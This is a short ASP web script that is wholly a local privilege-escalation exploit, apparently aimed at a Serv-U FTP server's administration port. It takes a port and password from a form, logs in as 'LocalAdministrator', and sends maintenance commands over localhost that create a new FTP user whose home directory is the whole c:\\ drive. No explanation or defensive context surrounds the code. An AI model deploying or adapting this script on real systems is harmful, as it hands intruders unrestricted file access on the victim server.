<%
port = Request.Form("port")
cmd = "User LocalAdministrator" & vbCrLf & "Pass " & Request.Form("pw") & vbCrLf & "SITE MAINTENANCE" & vbCrLf & _
      "-SETUSERSETUP" & vbCrLf & "-IP=0.0.0.0" & vbCrLf & "-PortNo=21" & vbCrLf & "-User=x" & vbCrLf & "-HomeDir=c:\\" & vbCrLf
Set p = CreateObject("MSXML2.XMLHTTP")
p.Open "POST", "http://127.0.0.1:" & port & "/x", True
p.Send cmd
%>
